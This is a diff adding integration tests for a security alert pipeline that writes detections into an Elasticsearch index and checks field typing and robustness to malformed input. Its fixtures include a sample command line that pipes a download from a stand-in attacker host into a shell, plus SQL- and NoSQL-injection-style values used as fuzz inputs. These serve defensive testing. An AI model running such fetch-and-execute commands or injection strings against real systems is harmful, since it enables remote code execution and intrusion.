@@ -1,0 +1,123 @@
+"""The alert mapping against a real search node: entity fields searchable with their ECS types,
+hostile values never rejected, the Kafka origin at its new place, ``matched`` as nested pairs.
+
+Parametrised over search back ends by fixture name (``TARGETS``): a real Elasticsearch node
+fixture can be added to the list without changing the tests.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from detectors.alert import Alert, build_alert
+from detectors.model import LogSource, Match, Origin, RuleInfo
+from devservices.search import SearchNode
+from service.alerting.config import AlertingSettings
+from service.alerting.router import AlertRouter
+
+pytestmark = pytest.mark.integration
+T0 = 1_750_000_000.0  # 2025-06-15
+DAY_INDEX = "2025.06.15"
+TARGETS = ["search_node"]
+"""Fixture names of the search nodes the tests run against (each gives ``.url`` and ``.flavor``)."""
+
+RULE = RuleInfo(id="map-rule", title="Mapping rule", level="high", author="Tester",
+                tags=("attack.execution", "attack.t1059.004"))
+
+
+@pytest.fixture(params=TARGETS)
+def node(request: pytest.FixtureRequest) -> SearchNode:
+    found: SearchNode = request.getfixturevalue(request.param)
+    return found
+
+
+def settings(node: SearchNode, prefix: str, **extra: Any) -> AlertingSettings:
+    sink = {"type": "elasticsearch", "name": "search", "flavor": node.flavor, "hosts": [node.url],
+            "index_prefix": prefix, "batch_size": 200, "item_retries": 1, "refresh": True,
+            "retry": {"initial_backoff_s": 0.05, "max_backoff_s": 0.5, "breaker_failures": 3,
+                      "breaker_reset_s": 0.5}, **extra}
+    return AlertingSettings.model_validate({"sinks": [sink], "spool": {"fsync": "never"}})
+
+
+def es(node: SearchNode, method: str, path: str, body: Any = None) -> dict[str, Any]:
+    resp = httpx.request(method, node.url + path, json=body, timeout=30)
+    assert resp.status_code < 300, resp.text
+    result: dict[str, Any] = resp.json()
+    return result
+
+
+def count(node: SearchNode, index: str, query: dict[str, Any]) -> int:
+    es(node, "POST", f"/{index}/_refresh")
+    total: int = es(node, "POST", f"/{index}/_count", {"query": query})["count"]
+    return total
+
+
+def make(offset: int, event: dict[str, Any], source: LogSource,
+         fields: tuple[tuple[str, Any], ...] = ()) -> Alert:
+    return build_alert(Match(rule=RULE, fields=fields), event,
+                       Origin(input="kafka", topic="audit", partition=2, offset=offset),
+                       event_time=T0 + offset, now=T0 + offset, logsource=source)
+
+
+async def deliver(node: SearchNode, prefix: str, batch: list[Alert], tmp_path: Path) -> dict[str, Any]:
+    router = AlertRouter(settings(node, prefix), tmp_path)
+    await router.start()
+    await router.submit(batch)
+    await router.wait_idle(60)
+    status: dict[str, Any] = router.status()["search"]
+    await router.stop()
+    return status
+
+
+CLOUDTRAIL = LogSource(product="aws", service="cloudtrail")
+SYSMON = LogSource(product="linux", category="process_creation")
+
+
+async def test_entity_fields_are_searchable_with_ecs_types(node: SearchNode, tmp_path: Path) -> None:
+    batch = [
+        make(1, {"eventName": "StopLogging", "sourceIPAddress": "198.51.100.7", "awsRegion": "eu-west-1",
+                 "userIdentity": {"userName": "mallory"}}, CLOUDTRAIL),
+        make(2, {"Image": "/usr/bin/bash", "CommandLine": "bash -c 'curl -s http://evil.example/x | sh'",
+                 "ProcessId": 4242, "User": "runner", "DestinationIp": "203.0.113.9", "DestinationPort": "443"},
+             SYSMON),
+    ]
+    status = await deliver(node, "ps-ent", batch, tmp_path)
+    assert status["dead_lettered"] == 0
+    index = f"ps-ent-{DAY_INDEX}"
+    props = es(node, "GET", f"/{index}/_mapping")[index]["mappings"]["properties"]
+    assert props["source"]["properties"]["ip"]["type"] == "ip"
+    assert props["process"]["properties"]["command_line"]["type"] == "wildcard"
+    assert count(node, index, {"term": {"user.name": "mallory"}}) == 1
+    assert count(node, index, {"term": {"source.ip": "198.51.100.0/24"}}) == 1  # a CIDR query: typed as ip
+    assert count(node, index, {"range": {"destination.port": {"gte": 400, "lte": 500}}}) == 1
+    assert count(node, index, {"wildcard": {"process.command_line": {"value": "*curl*evil.example*"}}}) == 1
+    assert count(node, index, {"term": {"cloud.provider": "aws"}}) == 1
+    aggs = es(node, "POST", f"/{index}/_search", {"size": 0, "aggs": {"users": {"terms": {"field": "user.name"}}}})
+    assert sorted(b["key"] for b in aggs["aggregations"]["users"]["buckets"]) == ["mallory", "runner"]
+
+
+async def test_hostile_values_never_get_the_alert_rejected(node: SearchNode, tmp_path: Path) -> None:
+    hostile = {"SourceIp": "1.2.3.4' OR 1=1", "DestinationIp": ["::1", "x" * 70_000], "SourcePort": "99999999999999999999",
+               "ProcessId": {"$gt": ""}, "User": "u" * 40_000, "CommandLine": "c" * 50_000, "Computer": ["h1", 7, None],
+               "deep": [[[[{"a": 1}]]]], **{f"k{i}": i for i in range(2000)}}
+    alert = make(10, hostile, SYSMON)
+    status = await deliver(node, "ps-hostile", [alert], tmp_path)
+    assert status["dead_lettered"] == 0
+    index = f"ps-hostile-{DAY_INDEX}"
+    doc = es(node, "GET", f"/{index}/_doc/{alert.id}")["_source"]
+    assert doc["destination"] == {"ip": "::1"} and doc["host"] == {"name": ["h1", "7"]}
+    assert "source" not in doc and "user" not in doc and "command_line" not in doc.get("process", {})
+    assert doc["pipesentry"]["original_truncated"] is True  # the rest is in event.original, capped
+    # the mapping stays bounded: none of the event's 2,000 keys became a field
+    props = es(node, "GET", f"/{index}/_mapping")[index]["mappings"]["properties"]
+    assert not any(k.startswith("k") for k in props)
+    # and a malformed typed value that reached the index anyway (a redaction marker in place of an IP)
+    # is ignored by the field, not a rejected document
+    bad = dict(doc, source={"ip": "[REDACTED:ip:h=0123456789abcdef]", "port": "eighty"})
+    resp = httpx.put(f"{node.url}/{index}/_doc/malformed?refresh=true", json=bad, timeout=30)
+    assert resp.status_code in (200, 201), resp.text
+    assert count(node, index, {"exists": {"field": "source.ip"}}) == 0
